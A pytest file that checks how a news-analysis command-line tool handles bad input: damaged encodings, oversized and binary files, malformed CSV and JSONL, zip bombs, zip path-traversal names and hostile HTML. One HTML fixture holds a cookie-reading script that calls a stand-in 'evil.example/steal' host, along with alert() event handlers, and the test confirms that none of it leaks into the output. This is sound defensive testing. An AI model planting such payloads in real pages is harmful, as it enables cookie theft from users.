"""Bad input (issue 6): the CLI and the Python API on every kind of bad file.

Each case checks the exact outcome: the bad file is named in ``errors`` with a plain reason,
every good file beside it is still analysed, and nothing hangs, crashes or writes to disk.
Files are built in ``tmp_path``; limits are lowered through ``NEWSSCOPE_<NAME>`` overrides
so that the size cases stay small and fast.
"""

from __future__ import annotations

import io
import json
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

import pytest

from components.cli import main
from components.engine.analysis import Analysis, analyze_corpus
from components.ingest.corpus import Corpus, load_corpus, load_uploads
from components.language.actors import (
    DictionaryError,
    load_actor_dictionary,
    parse_actor_dictionary,
)
from components.language.sentences import MAX_SENTENCE_CHARS

T = TypeVar("T")

GOOD_NAME = "good.txt"
GOOD = "Talks in Moscow\nIran and Russia met in Moscow on Monday. The talks went well.\n"
GOOD_TITLE = "Talks in Moscow"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
# Generous bounds: a hang or a quadratic blow-up fails, an ordinary slow machine does not.
TIMEOUT = 300  # a hang guard, not a speed target: the work takes seconds, a hang forever


# ---------------------------------------------------------------------------------- helpers


def run_cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict, str]:
    """``newsscope analyze ARGS --json - --workers 1``: exit code, parsed report, stderr."""
    code = main(["analyze", *args, "--json", "-", "--workers", "1"])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    return code, json.loads(captured.out), captured.err


def with_good_file(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / GOOD_NAME).write_text(GOOD, encoding="utf-8")
    return folder


def error_pairs(report: dict, root: Path) -> list[tuple[str, str]]:
    """The report's errors as (path relative to ``root``, reason), sorted."""
    return sorted((Path(e["path"]).relative_to(root).as_posix(), e["error"]) for e in report["errors"])


def corpus_errors(corpus: Corpus) -> list[tuple[str, str]]:
    """The corpus's load errors as (path, reason), sorted."""
    return sorted((e.path, e.error) for e in corpus.errors)


def within(seconds: float, work: Callable[[], T]) -> T:
    """Run ``work()`` and return its result; fail if it has not finished in ``seconds``."""
    outcome: dict[str, object] = {}

    def target() -> None:
        try:
            outcome["value"] = work()
        except BaseException as exc:  # handed to the test below
            outcome["error"] = exc

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    if thread.is_alive():
        pytest.fail(f"did not finish within {seconds} s (hang or super-linear blow-up)")
    if "error" in outcome:
        raise outcome["error"]  # type: ignore[misc]
    return outcome["value"]  # type: ignore[return-value]


def make_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def declared_size(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(i.file_size for i in archive.infolist())


def analyse(corpus: Corpus) -> Analysis:
    return analyze_corpus(corpus, load_actor_dictionary(), workers=1)


def assert_offsets_exact(analysis: Analysis, corpus: Corpus) -> None:
    """Every sentence and mention is the text (or title) found at its offsets."""
    texts = {a.id: a.text for a in corpus.articles}
    titles = {a.id: a.title for a in corpus.articles}
    for row in analysis.sentences.itertuples(index=False):
        assert 0 <= row.start < row.end <= len(texts[row.article_id])
        assert texts[row.article_id][row.start : row.end] == row.text
    for row in analysis.mentions.itertuples(index=False):
        field = texts if row.field == "body" else titles
        assert field[row.article_id][row.start : row.end] == row.surface


# ------------------------------------------------------------------ files that are not articles

UNREADABLE = [
    ("empty.txt", b"", "empty file"),
    ("empty.csv", b"", "empty file"),
    ("empty.zip", b"", "empty file"),
    ("blank.txt", b"  \n\t \r\n \r   ", "file contains only whitespace"),
    ("blank.md", "\u00a0\u2003\n\n".encode(), "file contains only whitespace"),
    ("picture.txt", PNG + bytes(range(256)), "binary file (not text)"),
    # Valid UTF-8, but NUL bytes: binary, not text (and not UTF-16 either).
    ("nul.txt", b"Title\x00\x01\x02 some text\x00\x03" * 20, "binary file (contains NUL bytes)"),
    ("notes.pdf", b"%PDF-1.4 binary", "unsupported file type '.pdf' (supported: .txt, .md, .html, .htm, .csv, .jsonl, .json, .zip)"),
    ("broken.zip", b"PK\x03\x04 truncated", "not a readable zip archive (File is not a zip file)"),
    ("deep.json", b"[" * 100_000, "invalid JSON: nested too deeply"),
]


@pytest.mark.parametrize(("name", "data", "reason"), UNREADABLE, ids=[c[0] for c in UNREADABLE])
def test_unreadable_file_is_named_and_the_good_one_analysed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, data: bytes, reason: str
) -> None:
    folder = with_good_file(tmp_path / "in")
    bad = folder / name
    bad.write_bytes(data)
    # Files, not the folder: a folder read skips unsupported types such as .pdf.
    code, report, err = run_cli(capsys, str(folder / GOOD_NAME), str(bad))
    assert code == 0
    assert [a["title"] for a in report["articles"]] == [GOOD_TITLE]
    assert report["articles"][0]["n_sentences"] == 2
    assert report["errors"] == [{"path": str(bad), "error": reason}]
    assert err == f"newsscope: {bad}: {reason}\n"
    # The Python API, from paths and from uploaded bytes, says the same.
    corpus = load_corpus([folder / GOOD_NAME, bad])
    assert [a.title for a in corpus.articles] == [GOOD_TITLE]
    assert corpus_errors(corpus) == [(str(bad), reason)]
    uploaded = load_uploads([(GOOD_NAME, GOOD.encode()), (name, data)])
    assert [a.title for a in uploaded.articles] == [GOOD_TITLE]
    assert corpus_errors(uploaded) == [(name, reason)]


def test_exit_2_when_every_file_is_bad(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for name, data, _ in UNREADABLE:
        (tmp_path / name).write_bytes(data)
    code, report, _ = run_cli(capsys, *(str(tmp_path / name) for name, _, _ in UNREADABLE))
    assert code == 2 and report["articles"] == []
    assert error_pairs(report, tmp_path) == sorted((name, reason) for name, _, reason in UNREADABLE)


# ---------------------------------------------------------------------------------- encodings

BODY = (
    "The minister\u2019s \u201cfinal offer\u201d \u2013 made at the caf\u00e9 in Gen\u00e8ve \u2013"
    " was rejected on Monday.\nOfficials called it \u2018na\u00efve\u2019 and left."
)
TITLE = "Caf\u00e9 talks \u2013 \u201cno deal\u201d"


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be"],
)
def test_encodings_load_with_the_right_characters(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], encoding: str
) -> None:
    """cp1252 and UTF-16 (with a BOM, and without one) give the same article as UTF-8."""
    data = f"{TITLE}\r\n{BODY}".encode(encoding)
    if encoding == "utf-16":
        assert data.startswith(b"\xff\xfe")  # this one carries a BOM; -le and -be do not
    corpus = load_uploads([(f"story.{encoding}.txt", data)])
    assert corpus.errors == ()
    (article,) = corpus.articles
    assert article.title == TITLE
    assert article.text == BODY
    (with_good_file(tmp_path) / "story.txt").write_bytes(data)
    code, report, err = run_cli(capsys, str(tmp_path))
    assert code == 0 and err == "" and report["errors"] == []
    assert sorted(a["title"] for a in report["articles"]) == sorted([TITLE, GOOD_TITLE])


# A UTF-8 article (accents, curly quotes) with two corrupt bytes: a lone 0xFF and a lead byte
# 0xC3 without its continuation byte.
DAMAGED_UTF8 = (
    "Caf\u00e9 talks resume\nThe \u201cfinal\u201d round began in Gen\u00e8ve. ".encode()
    + b"A corrupt byte \xff sits here. Another \xc3( sits there.\n"
)
DAMAGED_TEXT = (
    "The \u201cfinal\u201d round began in Gen\u00e8ve. A corrupt byte \ufffd sits here."
    " Another \ufffd( sits there."
)
DAMAGED_NOTE = "read with 2 invalid UTF-8 byte sequences shown as \ufffd (the file is damaged or mixes encodings)"


def test_invalid_utf8_loads_with_replacement_characters_and_a_note(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Decision: a UTF-8 file with a few corrupt bytes is read, not refused. Each bad sequence
    shows as U+FFFD, the rest keeps its accents (no code-page guess turning é into mojibake),
    and errors names the file with what happened, so the user can fix the source."""
    corpus = load_uploads([("damaged.txt", DAMAGED_UTF8)])
    (article,) = corpus.articles
    assert article.title == "Caf\u00e9 talks resume"
    assert article.text == DAMAGED_TEXT
    assert corpus_errors(corpus) == [("damaged.txt", DAMAGED_NOTE)]
    folder = with_good_file(tmp_path / "in")
    (folder / "damaged.txt").write_bytes(DAMAGED_UTF8)
    code, report, err = run_cli(capsys, str(folder))
    assert code == 0
    assert sorted(a["title"] for a in report["articles"]) == ["Caf\u00e9 talks resume", GOOD_TITLE]
    assert error_pairs(report, folder) == [("damaged.txt", DAMAGED_NOTE)]
    assert f"damaged.txt: {DAMAGED_NOTE}" in err


def test_invalid_utf8_is_handled_the_same_in_every_format() -> None:
    """The same bytes in a CSV field, a JSONL record and a zip member: same text, same note."""
    body = DAMAGED_UTF8.split(b"\n", 1)[1].rstrip(b"\n")
    csv_data = b'title,text\nT,"' + body + b'"\n'
    jsonl = b'{"title": "T", "text": "' + body + b'"}\n'
    corpus = load_uploads(
        [("rows.csv", csv_data), ("rows.jsonl", jsonl), ("bundle.zip", make_zip({"inner/damaged.txt": DAMAGED_UTF8}))]
    )
    assert [(a.path, a.text) for a in corpus.articles] == [("rows.csv#row 2", DAMAGED_TEXT)]
    # The same cleaned text, so the JSONL record and the zip member are repeats of the CSV row.
    assert corpus.duplicates == (
        ("rows.jsonl#line 1", "rows.csv#row 2"),
        ("bundle.zip/inner/damaged.txt", "rows.csv#row 2"),
    )
    assert corpus_errors(corpus) == sorted(
        [("rows.csv", DAMAGED_NOTE), ("rows.jsonl", DAMAGED_NOTE), ("bundle.zip/inner/damaged.txt", DAMAGED_NOTE)]
    )


def test_cp1252_bytes_alone_are_cp1252_not_damaged_utf8() -> None:
    """No well-formed UTF-8 character at all: a Western code page, read without any note."""
    data = ("Gen\u00e8ve talks\n" + "The \u201cfinal\u201d round in Gen\u00e8ve \u2013 na\u00efve hopes. " * 5).encode("cp1252")
    corpus = load_uploads([("old.txt", data)])
    assert corpus.errors == ()
    assert corpus.articles[0].text == ("The \u201cfinal\u201d round in Gen\u00e8ve \u2013 na\u00efve hopes. " * 5).strip()


def test_mixed_line_endings(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """\\r\\n, \\r and \\n in one file are all line breaks; sentences and offsets are exact."""
    data = b"Mixed endings\r\nFirst para. Second sentence.\rThird para here.\nFourth para.\r\n\r\nFifth, after a blank line."
    corpus = load_uploads([("mixed.txt", data)])
    (article,) = corpus.articles
    assert article.title == "Mixed endings"
    assert article.text == (
        "First para. Second sentence.\nThird para here.\nFourth para.\n\nFifth, after a blank line."
    )
    analysis = analyse(corpus)
    assert list(analysis.sentences["text"]) == [
        "First para.", "Second sentence.", "Third para here.", "Fourth para.", "Fifth, after a blank line.",
    ]
    assert list(analysis.sentences["start"]) == [0, 12, 29, 46, 60]
    assert_offsets_exact(analysis, corpus)
    (tmp_path / "mixed.txt").write_bytes(data)
    code, report, _ = run_cli(capsys, str(tmp_path / "mixed.txt"))
    assert code == 0 and report["articles"][0]["n_sentences"] == 5


# --------------------------------------------------------------------------------------- size


def test_file_over_max_file_bytes_is_refused_unread(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 20 MB file, one byte over the default limit, and a 1 GB (sparse) one: refused by size.

    The 1 GB file is refused from its size on disk: reading it would take seconds and a
    gigabyte of memory, and the timeout catches that.
    """
    folder = with_good_file(tmp_path / "in")
    (folder / "twenty.txt").write_bytes((b"Big file\n" + b"word " * 4_000_000)[:20_000_001])
    assert (folder / "twenty.txt").stat().st_size == 20_000_001
    with (folder / "huge.txt").open("wb") as handle:
        handle.truncate(1_000_000_000)
    code, report, _ = within(TIMEOUT, lambda: run_cli(capsys, str(folder)))
    assert code == 0 and [a["title"] for a in report["articles"]] == [GOOD_TITLE]
    assert error_pairs(report, folder) == [
        ("huge.txt", "file is 1,000,000,000 bytes, over the max_file_bytes limit of 20,000,000"),
        ("twenty.txt", "file is 20,000,001 bytes, over the max_file_bytes limit of 20,000,000"),
    ]
    # The same limit holds for uploads and zip members, and follows its NEWSSCOPE_ override.
    monkeypatch.setenv("NEWSSCOPE_MAX_FILE_BYTES", "1000")
    corpus = load_uploads(
        [("big.txt", b"x" * 1001), ("ok.txt", GOOD.encode()), ("bundle.zip", make_zip({"big.md": b"y " * 2000}))]
    )
    assert [a.title for a in corpus.articles] == [GOOD_TITLE]
    assert corpus_errors(corpus) == [
        ("big.txt", "file is 1,001 bytes, over the max_file_bytes limit of 1,000"),
        ("bundle.zip/big.md", "file is 4,000 bytes, over the max_file_bytes limit of 1,000"),
    ]


@pytest.mark.slow
def test_twenty_megabyte_article_is_refused_by_max_article_chars_in_bounded_time(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Just under max_file_bytes, so it is read; but at 20 M characters it is no article
    (analysing it would take minutes), so it is refused naming max_article_chars."""
    paragraph = "Iran and Russia held talks in Moscow on Monday. The ministers said little. " * 13
    lines = ["Twenty megabytes"] + [paragraph.strip()] * 20_600
    data = "\n".join(lines).encode()[:19_990_000]
    body_chars = len(data.decode().split("\n", 1)[1].rstrip())  # what cleaning leaves: all but the title
    assert body_chars > 19_900_000
    folder = with_good_file(tmp_path / "in")
    (folder / "twenty.txt").write_bytes(data)
    code, report, _ = within(TIMEOUT, lambda: run_cli(capsys, str(folder)))
    assert code == 0 and [a["title"] for a in report["articles"]] == [GOOD_TITLE]
    assert error_pairs(report, folder) == [
        ("twenty.txt", f"article text is {body_chars:,} characters, over the max_article_chars limit of 1,000,000")
    ]


def test_max_article_chars_override(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEWSSCOPE_MAX_ARTICLE_CHARS", "100")
    long_body = "Iran and Russia met. " * 10  # 209 characters once cleaned
    corpus = load_uploads([("long.txt", f"Long one\n{long_body}".encode()), ("short.txt", b"Short one\nIran met Russia.")])
    assert [a.title for a in corpus.articles] == ["Short one"]
    assert corpus_errors(corpus) == [
        ("long.txt", "article text is 209 characters, over the max_article_chars limit of 100")
    ]


def test_bad_limit_override_is_a_clear_cli_error(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NEWSSCOPE_MAX_FILE_BYTES", "20MB")
    assert main(["analyze", "--json", "-"]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == "newsscope: NEWSSCOPE_MAX_FILE_BYTES='20MB' is not a valid int\n"


def test_long_unpunctuated_paragraph_is_analysed_in_bounded_time(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """200,000 characters with no sentence punctuation: split into sentences of at most
    MAX_SENTENCE_CHARS at spaces, every word kept, every actor found, in bounded time."""
    cycle = "Iran and Russia discussed oil prices with officials from Moscow while markets waited".split()
    words = [cycle[i % len(cycle)] for i in range(32_000)]
    paragraph = " ".join(words)[:200_000].rsplit(" ", 1)[0]
    n_iran = paragraph.split().count("Iran")
    n_russia = paragraph.split().count("Russia") + paragraph.split().count("Moscow")  # Moscow: an alias
    (tmp_path / "long.txt").write_text(f"No punctuation at all\n{paragraph}", encoding="utf-8")
    corpus = load_corpus([tmp_path / "long.txt"])
    (article,) = corpus.articles
    assert article.text == paragraph and len(paragraph) > 199_900
    analysis = within(TIMEOUT, lambda: analyse(corpus))
    sentences = analysis.sentences
    assert sentences["text"].str.len().max() <= MAX_SENTENCE_CHARS
    assert len(sentences) >= len(paragraph) // MAX_SENTENCE_CHARS
    assert " ".join(sentences["text"]) == paragraph  # cut at spaces only: no word lost or split
    assert_offsets_exact(analysis, corpus)
    counts = analysis.mentions.groupby("actor").size().to_dict()
    assert counts == {"Iran": n_iran, "Russia": n_russia} and n_iran > 2_000
    assert len(analysis.keywords) > 0
    code, report, _ = within(TIMEOUT, lambda: run_cli(capsys, str(tmp_path / "long.txt")))
    assert code == 0 and report["articles"][0]["n_sentences"] == len(sentences)


# ---------------------------------------------------------------------------------------- CSV


def test_csv_without_a_text_column_names_file_and_column(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = with_good_file(tmp_path / "in")
    (folder / "nocol.csv").write_text("headline,when,outlet\nA,2025-06-23,AP\n", encoding="utf-8")
    code, report, err = run_cli(capsys, str(folder))
    reason = "no text column (expected one of: text, content, body; found: headline, when, outlet)"
    assert code == 0 and [a["title"] for a in report["articles"]] == [GOOD_TITLE]
    assert error_pairs(report, folder) == [("nocol.csv", reason)]
    assert f"nocol.csv: {reason}" in err


def test_csv_extra_columns_quoted_newlines_and_empty_rows() -> None:
    """Extra columns are ignored; quoted newlines stay in the text; a blank row is skipped and a
    row with no text is reported by the row number a spreadsheet shows (the header is row 1,
    a row with quoted newlines and a blank line each count once)."""
    data = (
        "id,title,text,sentiment,notes\n"                                   # row 1
        '1,First,"Line one.\nLine two, with a comma.\r\nLine three.",0.5,x\n'  # row 2 (3 lines)
        "\n"                                                                  # row 3: blank line
        ",,,,\n"                                                              # row 4: empty fields
        "4,No text,,0.1,y\n"                                                  # row 5
        "5,Last,Last text.,,\n"                                               # row 6
    ).encode()
    corpus = load_uploads([("rows.csv", data)])
    assert [(a.path, a.title, a.text) for a in corpus.articles] == [
        ("rows.csv#row 2", "First", "Line one.\nLine two, with a comma.\nLine three."),
        ("rows.csv#row 6", "Last", "Last text."),
    ]
    assert corpus_errors(corpus) == [("rows.csv", "row 5: empty text")]


def test_csv_with_ten_thousand_rows_loads_every_row(tmp_path: Path) -> None:
    rows = "\n".join(f'"Title {i}","Article number {i} reports talks in Moscow.",Source {i % 7}' for i in range(10_000))
    (tmp_path / "big.csv").write_text(f"title,text,source\n{rows}\n", encoding="utf-8")
    corpus = within(TIMEOUT, lambda: load_corpus([tmp_path / "big.csv"]))
    assert corpus.errors == () and corpus.duplicates == ()
    assert len(corpus.articles) == 10_000
    assert corpus.articles[9_999].title == "Title 9999"
    assert corpus.articles[9_999].path == f"{tmp_path / 'big.csv'}#row 10001"
    assert corpus.articles[9_999].source == "Source 3"


def test_csv_long_title_is_kept_whole(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Decision: a 10,000-character title is data, kept whole (the dashboard shortens it for display)."""
    title = ("Iran asks Russia for support " * 400)[:10_000]
    (tmp_path / "long-title.csv").write_text(f'title,text\n"{title}",Iran met Russia in Moscow.\n', encoding="utf-8")
    (tmp_path / "long-title.jsonl").write_text(
        json.dumps({"title": title, "text": "Russia met Iran in Tehran."}) + "\n", encoding="utf-8"
    )
    code, report, _ = run_cli(capsys, str(tmp_path))
    assert code == 0 and report["errors"] == []
    assert [len(a["title"]) for a in report["articles"]] == [10_000, 10_000]
    assert {a["title"] for a in report["articles"]} == {title.strip()}


def test_txt_long_first_line_is_text_not_title() -> None:
    """A plain-text file's first line is the title only when it looks like one (<= 300 characters);
    a 10,000-character first line stays in the text and the file name is the title."""
    line = ("Iran asks Russia for support " * 400)[:10_000].strip()
    corpus = load_uploads([("long-line.txt", f"{line}\nSecond line.".encode())])
    (article,) = corpus.articles
    assert article.title == "long-line"
    assert article.text == f"{line}\nSecond line."


# -------------------------------------------------------------------------------------- JSONL


def test_jsonl_malformed_line_is_reported_by_number(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = [
        json.dumps({"title": "Alpha", "text": "Alpha text about Iran."}),
        json.dumps({"title": "Beta", "text": "Beta text\u2028with a line separator."}, ensure_ascii=False),
        '{"title": "Broken", "text": "no closing brace"',
        "",
        "[" * 50_000,
        json.dumps({"title": "Gamma", "body": "Gamma text about Russia."}),
    ]
    (tmp_path / "feed.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, report, err = run_cli(capsys, str(tmp_path / "feed.jsonl"))
    assert code == 0
    assert [a["title"] for a in report["articles"]] == ["Alpha", "Beta", "Gamma"]
    assert [a["path"].rsplit("#", 1)[1] for a in report["articles"]] == ["line 1", "line 2", "line 6"]
    assert error_pairs(report, tmp_path) == [
        ("feed.jsonl", "line 3: invalid JSON (Expecting ',' delimiter)"),
        ("feed.jsonl", "line 5: invalid JSON (nested too deeply)"),
    ]
    assert "feed.jsonl: line 3: invalid JSON" in err


# ---------------------------------------------------------------------------------------- ZIP


def test_nested_zips_are_read_three_levels_deep(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    level4 = make_zip({"four.txt": b"Level four\nFour text."})
    level3 = make_zip({"three.txt": b"Level three\nThree text.", "l4.zip": level4})
    level2 = make_zip({"two.txt": b"Level two\nTwo text.", "l3.zip": level3})
    outer = make_zip({"one.txt": b"Level one\nOne text.", "l2.zip": level2})
    (tmp_path / "outer.zip").write_bytes(outer)
    code, report, _ = run_cli(capsys, str(tmp_path / "outer.zip"))
    assert code == 0
    assert sorted(Path(a["path"]).relative_to(tmp_path).as_posix() for a in report["articles"]) == [
        "outer.zip/l2.zip/l3.zip/three.txt",
        "outer.zip/l2.zip/two.txt",
        "outer.zip/one.txt",
    ]
    assert error_pairs(report, tmp_path) == [
        ("outer.zip/l2.zip/l3.zip/l4.zip", "skipped: zip nested more than three levels deep")
    ]


def test_zip_path_traversal_names_are_labels_and_nothing_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    work = tmp_path / "work" / "deep"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)  # so ../../etc/x.txt would land in tmp_path/etc
    archive = make_zip(
        {
            "../../etc/x.txt": b"Traversal\nIt is only a label.",
            "/etc/newsscope-y.txt": b"Absolute\nAn absolute name is a label too.",
            "..\\..\\windows.txt": b"Backslashes\nAnd so is this one.",
            "ok/inner.txt": b"Inner\nA plain member.",
        }
    )
    (tmp_path / "bundle.zip").write_bytes(archive)
    before = sorted(p for p in tmp_path.rglob("*"))
    code, report, _ = run_cli(capsys, str(tmp_path / "bundle.zip"))
    corpus = load_uploads([("bundle.zip", archive)])
    assert code == 0 and report["errors"] == [] and corpus.errors == ()
    assert sorted(a.path for a in corpus.articles) == [
        "bundle.zip/../../etc/x.txt",
        "bundle.zip/..\\..\\windows.txt",
        "bundle.zip//etc/newsscope-y.txt",
        "bundle.zip/ok/inner.txt",
    ]
    assert len(report["articles"]) == 4
    assert sorted(p for p in tmp_path.rglob("*")) == before
    assert not (tmp_path / "etc").exists() and not (work / "../../etc/x.txt").exists()
    assert not Path("/etc/newsscope-y.txt").exists()
    assert not (tmp_path / "windows.txt").exists()


def test_zip_over_max_zip_total_bytes_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NEWSSCOPE_MAX_ZIP_TOTAL_BYTES", "10000")
    folder = with_good_file(tmp_path / "in")
    (folder / "bomb.zip").write_bytes(make_zip({"a.txt": b"Bomb\n" + b"a " * 20_000}))
    assert (folder / "bomb.zip").stat().st_size < 1_000  # it compresses well: a small zip bomb
    code, report, _ = run_cli(capsys, str(folder))
    assert code == 0 and [a["title"] for a in report["articles"]] == [GOOD_TITLE]
    assert error_pairs(report, folder) == [
        ("bomb.zip", "zip expands to 40,005 bytes, over the max_zip_total_bytes limit of 10,000")
    ]


def test_nested_zips_share_one_size_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each nested archive is under the limit on its own, but all together they are not: the
    one that crosses the limit is refused and named; what was read before it is kept."""
    monkeypatch.setenv("NEWSSCOPE_MAX_ZIP_TOTAL_BYTES", "10000")
    first = make_zip({"first.txt": b"First\n" + b"Iran met Russia. " * 300})    # 5,106 bytes
    second = make_zip({"second.txt": b"Second\n" + b"Russia met Iran. " * 350})  # 5,957 bytes
    outer = make_zip({"a.zip": first, "b.zip": second})
    total = declared_size(outer) + declared_size(first) + declared_size(second)
    assert declared_size(outer) < 10_000 and declared_size(second) < 10_000 < total
    corpus = load_uploads([("outer.zip", outer)])
    assert [a.path for a in corpus.articles] == ["outer.zip/a.zip/first.txt"]
    assert corpus_errors(corpus) == [
        (
            "outer.zip/b.zip",
            f"zip expands to {total:,} bytes with the archives it is in,"
            " over the max_zip_total_bytes limit of 10,000",
        )
    ]


def test_zip_member_count_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEWSSCOPE_MAX_ZIP_MEMBERS", "2")
    many = make_zip({f"{i}.txt": f"Title {i}\nText {i}.".encode() for i in range(3)})
    corpus = load_uploads([("many.zip", many), ("ok.txt", GOOD.encode())])
    assert [a.title for a in corpus.articles] == [GOOD_TITLE]
    assert corpus_errors(corpus) == [("many.zip", "zip has 3 members, over the max_zip_members limit of 2")]


def test_zip_unsupported_and_bad_members_are_skipped_and_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = make_zip(
        {
            "story.txt": GOOD.encode(),
            "setup.exe": b"MZ\x90\x00\x03\x00\x00\x00",
            "photo.png": PNG,
            "renamed.txt": PNG,
            "nothing.md": b"",
            "no-extension": b"plain words",
        }
    )
    (tmp_path / "mixed.zip").write_bytes(archive)
    code, report, _ = run_cli(capsys, str(tmp_path / "mixed.zip"))
    assert code == 0 and [a["title"] for a in report["articles"]] == [GOOD_TITLE]
    assert error_pairs(report, tmp_path) == [
        ("mixed.zip/no-extension", "skipped: unsupported file type 'no-extension'"),
        ("mixed.zip/nothing.md", "empty file"),
        ("mixed.zip/photo.png", "skipped: unsupported file type '.png'"),
        ("mixed.zip/renamed.txt", "binary file (not text)"),
        ("mixed.zip/setup.exe", "skipped: unsupported file type '.exe'"),
    ]


# --------------------------------------------------------------------------------------- HTML

HOSTILE_HTML = b"""<!doctype html><html><head><title>Tom &lt;3 Jerry &amp; the &lt;b&gt; tag</title>
<script>var EVIL_HEAD = document.cookie;</script></head>
<body onload="alert('ONLOAD')"><article><h1>Tom &lt;3 Jerry &amp; the &lt;b&gt; tag</h1>
<p>The talks in Moscow went on for hours and the ministers said very little to the press afterwards.
<script>document.write('EVIL SCRIPT BODY'); fetch('https://evil.example/steal')</script>
Later they met again in Tehran.</p>
<p>See <a href="javascript:alert('JSLINK')">this link</a> and <img src=x onerror="alert('ONERR')"> this image.
A sentence with a &lt; sign: 3 &lt; 4.</p>
<style>.STYLE_RULE { color: red }</style>
</article></body></html>"""


def test_hostile_html_gives_plain_text_without_script_bodies(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Scripts, handlers and javascript: links never become article text; a '<' in the title or
    text is kept as a plain character (escaping is the reader's job, tested elsewhere)."""
    (with_good_file(tmp_path) / "page.html").write_bytes(HOSTILE_HTML)
    code, report, _ = run_cli(capsys, str(tmp_path))
    assert code == 0 and report["errors"] == []
    page = next(a for a in report["articles"] if a["path"].endswith("page.html"))
    assert page["title"] == "Tom <3 Jerry & the <b> tag"
    text = page["text"]
    assert "The talks in Moscow went on for hours" in text and "Later they met again in Tehran." in text
    assert "A sentence with a < sign: 3 < 4." in text
    for leaked in ("EVIL", "alert", "javascript:", "onerror", "onload", "fetch(", "document.", "STYLE_RULE", "<script"):
        assert leaked not in text
    # The Moscow and Tehran of the text are found, and the title's Jerry; nothing from the script is.
    assert {a["actor"] for a in page["actors"]} == {"Russia", "Iran", "Jerry"}


def test_markup_in_a_plain_text_title_stays_literal_text() -> None:
    title = "<script>alert('x')</script> & <b>News</b> <img src=x onerror=alert(1)>"
    corpus = load_uploads([("markup.txt", f"{title}\nIran met Russia.".encode())])
    assert corpus.articles[0].title == title
    assert corpus.articles[0].text == "Iran met Russia."


# ------------------------------------------------------------------------------ actor dictionary

BAD_DICTIONARIES = [
    (
        "bad-toml.toml",
        b"[[actor]\nname = 'x'\n",
        "bad-toml.toml: not valid TOML: Expected ']]' at the end of an array declaration (at line 1, column 8)",
    ),
    ("no-name.toml", b"[[actor]]\ntype = 'person'\naliases = ['Sam']\n", "no-name.toml: actor #1 has no name"),
    (
        "dup-alias.toml",
        b"[[actor]]\nname = 'Ann'\ntype = 'person'\naliases = ['Sam']\n"
        b"[[actor]]\nname = 'Bob'\ntype = 'person'\naliases = ['Sam']\n",
        "dup-alias.toml: alias 'Sam' is claimed by both 'Ann' and 'Bob'",
    ),
    ("not-utf8.toml", "[[actor]]\nname = 'Caf\u00e9'\n".encode("cp1252"), "not-utf8.toml: not UTF-8 text"),
]


@pytest.mark.parametrize(("name", "content", "message"), BAD_DICTIONARIES, ids=[d[0] for d in BAD_DICTIONARIES])
def test_malformed_actor_dictionary_is_a_clear_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, content: bytes, message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(DictionaryError) as raised:
        load_actor_dictionary(path)
    assert str(raised.value) == message
    assert main(["analyze", str(with_good_file(tmp_path / "in")), "--actors", str(path), "--json", "-"]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err == f"newsscope: {message}\n"


def test_missing_actor_dictionary_is_a_clear_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["analyze", "--actors", str(tmp_path / "nowhere.toml")]) == 2
    assert capsys.readouterr().err == "newsscope: nowhere.toml: cannot read the file: No such file or directory\n"


SOUP = r".*+?[](){}|\^$"


def test_regex_metacharacter_alias_matches_only_its_literal_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    toml = f"[[actor]]\nname = 'Soup'\ntype = 'organization'\naliases = ['{SOUP}', 'a|b', '(x']\n"  # literal strings
    dictionary = parse_actor_dictionary(toml, source="soup.toml")
    assert dictionary.actors[0].aliases == ("Soup", SOUP, "a|b", "(x")
